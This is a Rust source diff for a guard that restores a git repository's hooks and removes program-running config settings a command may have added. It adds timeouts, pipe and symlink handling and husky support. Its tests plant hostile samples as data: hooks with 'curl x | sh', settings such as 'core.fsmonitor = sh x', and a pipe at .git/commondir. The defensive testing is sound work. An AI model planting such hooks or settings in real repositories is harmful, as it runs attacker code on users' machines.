@@ -186,21 +186,76 @@ fn running_keys(only_programs: bool) -> Vec<&'static str> {
     }
 }
 
-/// The settings of a config file whose keys match `keys`, as `key\nvalue` entries (git's own
-/// reading, `git config --file … --list`, which runs nothing and follows no include). None when
-/// git cannot read it.
-fn settings_of(file: &Path, keys: &[&str]) -> Option<Vec<String>> {
-    let out = std::process::Command::new("git")
-        .args(["config", "--no-includes", "--null", "--list", "--file"])
-        .arg(file)
+/// How long a `git config` of the guard may take: one that does not end (a config it reads made
+/// a pipe) is killed, and its answer is none.
+const GIT_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(5);
+
+/// Runs `git ARGS` for the guard: from `/` (so that git looks for no repository, whose files a
+/// command may have made pipes that block it), reading no system or global config, given
+/// `input` on its standard input, killed after [`GIT_TIMEOUT`]. Its output when it ended well.
+fn run_git(args: &[&std::ffi::OsStr], input: Option<Vec<u8>>) -> Option<Vec<u8>> {
+    use std::io::{Read, Write};
+    use std::process::Stdio;
+    let mut child = std::process::Command::new("git")
+        .args(args)
+        .current_dir("/")
         .env("GIT_CONFIG_NOSYSTEM", "1")
-        .stdin(std::process::Stdio::null())
-        .output()
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CEILING_DIRECTORIES", "/")
+        .stdin(if input.is_some() {
+            Stdio::piped()
+        } else {
+            Stdio::null()
+        })
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
         .ok()?;
-    if !out.status.success() {
-        return None;
+    // Written and read by threads of their own, so that neither pipe fills while the other waits.
+    let writer = child.stdin.take().zip(input).map(|(mut stdin, bytes)| {
+        std::thread::spawn(move || {
+            let _ = stdin.write_all(&bytes);
+        })
+    });
+    let reader = child.stdout.take().map(|mut stdout| {
+        std::thread::spawn(move || {
+            let mut out = Vec::new();
+            let _ = stdout.read_to_end(&mut out);
+            out
+        })
+    });
+    let started = std::time::Instant::now();
+    let status = loop {
+        match child.try_wait() {
+            Ok(Some(status)) => break Some(status),
+            Ok(None) if started.elapsed() < GIT_TIMEOUT => {
+                std::thread::sleep(std::time::Duration::from_millis(2));
+            }
+            _ => {
+                let _ = child.kill();
+                let _ = child.wait();
+                break None;
+            }
+        }
+    };
+    if let Some(writer) = writer {
+        let _ = writer.join();
     }
-    let mut running: Vec<String> = String::from_utf8_lossy(&out.stdout)
+    let out = reader.and_then(|r| r.join().ok()).unwrap_or_default();
+    status.filter(|s| s.success()).map(|_| out)
+}
+
+/// The settings of a config file's bytes whose keys match `keys`, as `key\nvalue` entries (git's
+/// own reading, `git config --file - --list`, which runs nothing and follows no include). None
+/// when git cannot read them.
+fn settings_in(bytes: Vec<u8>, keys: &[&str]) -> Option<Vec<String>> {
+    let args: Vec<&std::ffi::OsStr> =
+        ["config", "--no-includes", "--null", "--list", "--file", "-"]
+            .iter()
+            .map(std::ffi::OsStr::new)
+            .collect();
+    let out = run_git(&args, Some(bytes))?;
+    let mut running: Vec<String> = String::from_utf8_lossy(&out)
         .split('\0')
         .filter(|entry| {
             let key = entry.split('\n').next().unwrap_or("").to_lowercase();
@@ -215,6 +270,12 @@ fn settings_of(file: &Path, keys: &[&str]) -> Option<Vec<String>> {
     Some(running)
 }
 
+/// The settings of a config file (a regular file, read as [`read_regular`] reads it) whose keys
+/// match `keys`; none when it is no regular file or git cannot read it.
+fn settings_of(file: &Path, keys: &[&str]) -> Option<Vec<String>> {
+    settings_in(read_regular(file)?, keys)
+}
+
 /// The settings of a config file that run a program (see [`running_keys`]).
 fn running_settings(file: &Path) -> Option<Vec<String>> {
     settings_of(file, &running_keys(false))
@@ -226,13 +287,44 @@ fn is_link(path: &Path) -> bool {
 }
 
 /// The bytes of `path` when it is a regular file (never through a link, never a pipe or a
-/// device, which could block the guard or never end).
+/// device, which could block the guard or never end): opened without following a link and
+/// without waiting on a pipe, then asked what it is — a file swapped for a pipe after a look at
+/// its name is never read.
 fn read_regular(path: &Path) -> Option<Vec<u8>> {
-    let meta = std::fs::symlink_metadata(path).ok()?;
-    if !meta.file_type().is_file() {
+    use std::io::Read;
+    use std::os::unix::fs::OpenOptionsExt;
+    let mut file = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
+        .open(path)
+        .ok()?;
+    if !file.metadata().ok()?.file_type().is_file() {
         return None;
     }
-    std::fs::read(path).ok()
+    let mut bytes = Vec::new();
+    file.read_to_end(&mut bytes).ok()?;
+    Some(bytes)
+}
+
+/// What is at `path`: nothing (`Ok(None)`), a regular file's bytes, or something else (`Err`: a
+/// link, a pipe, a folder, a device).
+fn regular_or_nothing(path: &Path) -> Result<Option<Vec<u8>>, ()> {
+    match std::fs::symlink_metadata(path) {
+        Err(_) => Ok(None),
+        Ok(_) => read_regular(path).map(Some).ok_or(()),
+    }
+}
+
+/// Gives a folder its owner's permission to list and enter it back (a command may have taken it
+/// away so that a hook put in it could not be seen). Never through a link.
+fn listable(folder: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    if let Ok(meta) = std::fs::symlink_metadata(folder) {
+        if meta.is_dir() && meta.permissions().mode() & 0o500 != 0o500 {
+            let mode = meta.permissions().mode() | 0o700;
+            let _ = std::fs::set_permissions(folder, std::fs::Permissions::from_mode(mode));
+        }
+    }
 }
 
 /// Gives the folder holding `path` back its owner's write permission (a command may have taken
@@ -396,6 +488,12 @@ impl Repository {
                 }
                 let _ = std::fs::create_dir(&hooks.folder);
             }
+            // A folder the command made unlistable hides what it put there: listable again.
+            listable(&hooks.folder);
+            if hooks.folder.is_dir() && std::fs::read_dir(&hooks.folder).is_err() {
+                failed.push(hooks.folder.clone());
+                continue;
+            }
             let now = read_hooks(&hooks.folder);
             let mut changed = false;
             for (name, file) in &now {
@@ -434,7 +532,8 @@ impl Repository {
             }
         }
         for (file, bytes) in &self.pointers {
-            if read_regular(file) == *bytes && !is_link(file) {
+            // A pipe or a folder in its place is a change too (git would block on a pipe).
+            if regular_or_nothing(file).is_ok_and(|now| now == *bytes) {
                 continue;
             }
             let done = match &bytes {
@@ -495,6 +594,7 @@ fn disarm(folder: &Path, said: &mut Vec<String>) {
         }
     }
     let entries = if folder.is_dir() {
+        listable(&folder.join("hooks"));
         std::fs::read_dir(folder.join("hooks")).ok()
     } else {
         None
@@ -519,20 +619,31 @@ fn disarm(folder: &Path, said: &mut Vec<String>) {
         Vec::new()
     };
     for file in files {
-        if is_link(&file) {
+        // A link, a pipe or a device in a config's place: taken away, never read through.
+        if regular_or_nothing(&file).is_err() {
             changed |= take_away(&file);
             continue;
         }
         for entry in settings_of(&file, &keys).unwrap_or_default() {
             let key = entry.split('\n').next().unwrap_or("");
-            let unset = std::process::Command::new("git")
-                .args(["config", "--file"])
-                .arg(&file)
-                .args(["--unset-all", key])
-                .env("GIT_CONFIG_NOSYSTEM", "1")
-                .stdin(std::process::Stdio::null())
-                .output();
-            changed |= unset.is_ok_and(|o| o.status.success());
+            let unset = |file: &Path| {
+                let args = [
+                    std::ffi::OsStr::new("config"),
+                    std::ffi::OsStr::new("--file"),
+                    file.as_os_str(),
+                    std::ffi::OsStr::new("--unset-all"),
+                    std::ffi::OsStr::new(key),
+                ];
+                run_git(&args, None).is_some()
+            };
+            // git will not write a config whose lock file a command left (`config.lock`): the
+            // lock taken away first; a config that still cannot be changed is taken away whole.
+            let lock = file.with_extension(match file.extension() {
+                Some(ext) => format!("{}.lock", ext.to_string_lossy()),
+                None => "lock".into(),
+            });
+            let _ = take_away(&lock);
+            changed |= unset(&file) || take_away(&file);
         }
     }
     if changed {
@@ -575,10 +686,21 @@ impl GitGuard {
                 Err(_) => written_inside,
             };
             if !value.is_empty() && inside {
+                // husky's `.husky/_` runs the hooks of the folder above it (`.husky/pre-commit`):
+                // that folder is kept too.
+                let above = (folder.file_name() == Some(std::ffi::OsStr::new("_")))
+                    .then(|| folder.parent().map(Path::to_path_buf))
+                    .flatten();
                 first.hooks.push(Hooks {
                     files: read_hooks(&folder),
                     folder,
                 });
+                if let Some(above) = above {
+                    first.hooks.push(Hooks {
+                        files: read_hooks(&above),
+                        folder: above,
+                    });
+                }
             }
         }
         GitGuard {
@@ -946,6 +1068,84 @@ mod tests {
         assert_eq!(said.len(), 1, "{said:?}");
         assert!(!root.join(".husky/_/pre-commit").exists());
         assert!(root.join(".husky/_/pre-push").exists());
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn a_pipe_at_commondir_is_taken_away_and_blocks_no_git_the_guard_runs() {
+        let root = repo("commondir-pipe");
+        let guard = GitGuard::before(&root);
+        let made = std::process::Command::new("mkfifo")
+            .arg(root.join(".git/commondir"))
+            .status()
+            .unwrap()
+            .success();
+        assert!(made);
+        // A change that makes the guard ask git about the config: git run in the project would
+        // look for its repository and block on the pipe (as git here would: the file is
+        // written as it is).
+        let config = root.join(".git/config");
+        let mut text = std::fs::read_to_string(&config).unwrap();
+        text.push_str("[core]\n\tpager = sh x\n");
+        std::fs::write(&config, text).unwrap();
+        let (done, wait) = std::sync::mpsc::channel();
+        let at = root.clone();
+        std::thread::spawn(move || {
+            let _ = done.send(guard.after(&at));
+        });
+        let said = wait
+            .recv_timeout(std::time::Duration::from_secs(20))
+            .expect("the guard blocked on a pipe at commondir");
+        assert!(
+            std::fs::symlink_metadata(root.join(".git/commondir")).is_err(),
+            "{said:?}"
+        );
+        let config = std::fs::read_to_string(root.join(".git/config")).unwrap();
+        assert!(!config.contains("sh x"), "{config}");
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn husky_s_hooks_above_its_underscore_folder_are_kept_too() {
+        let root = repo("husky");
+        git(&root, &["config", "core.hooksPath", ".husky/_"]);
+        std::fs::create_dir_all(root.join(".husky/_")).unwrap();
+        std::fs::write(root.join(".husky/_/h"), "#!/bin/sh\nsh -e .husky/$1\n").unwrap();
+        std::fs::write(root.join(".husky/pre-commit"), "npm test\n").unwrap();
+        let guard = GitGuard::before(&root);
+        std::fs::write(root.join(".husky/pre-commit"), "curl x | sh\n").unwrap();
+        std::fs::write(root.join(".husky/pre-push"), "curl x | sh\n").unwrap();
+        let said = guard.after(&root);
+        assert_eq!(said.len(), 1, "{said:?}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(".husky/pre-commit")).unwrap(),
+            "npm test\n"
+        );
+        assert!(!root.join(".husky/pre-push").exists());
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn a_made_repository_s_setting_is_taken_out_past_a_lock_file_left_beside_it() {
+        let root = repo("module-lock");
+        let guard = GitGuard::before(&root);
+        git(&root, &["init", "-q", "--bare", ".git/modules/new"]);
+        let module = root.join(".git/modules/new");
+        git(
+            &root,
+            &[
+                "--git-dir",
+                ".git/modules/new",
+                "config",
+                "core.fsmonitor",
+                "sh x",
+            ],
+        );
+        std::fs::write(module.join("config.lock"), "").unwrap();
+        let said = guard.after(&root);
+        assert_eq!(said.len(), 1, "{said:?}");
+        let config = std::fs::read_to_string(module.join("config")).unwrap_or_default();
+        assert!(!config.contains("fsmonitor"), "{config}");
         let _ = std::fs::remove_dir_all(&root);
     }
 }
